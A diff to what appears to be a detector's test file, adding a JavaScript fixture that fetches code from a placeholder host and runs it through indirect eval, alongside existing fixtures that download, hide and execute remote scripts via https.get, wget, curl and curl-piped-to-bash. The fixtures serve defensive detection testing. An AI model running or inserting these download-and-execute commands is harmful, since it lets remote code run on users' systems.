@@ -234,6 +234,7 @@ def test_attack_a_command_within_a_sentence_is_found():
             "a.js",
             "https.get('https://c.invalid', (r) => {\n  let b = '';\n  r.on('data', (d) => { b += d; });\n  r.on('end', () => { eval(b); });\n});",
         ),
+        ("a.js", "fetch('https://c.invalid').then(r => r.text()).then(t => (0, eval)(t))"),
         ("a.sh", "wget -q https://c.invalid/p -O /tmp/.p\nchmod 755 /tmp/.p\n/tmp/.p &"),
         ("a.sh", "curl -s https://c.invalid -o ~/.cache/.x; sh ~/.cache/.x"),
         ("a.sh", "F=curl\nS=bash\n$F https://c.invalid | $S"),
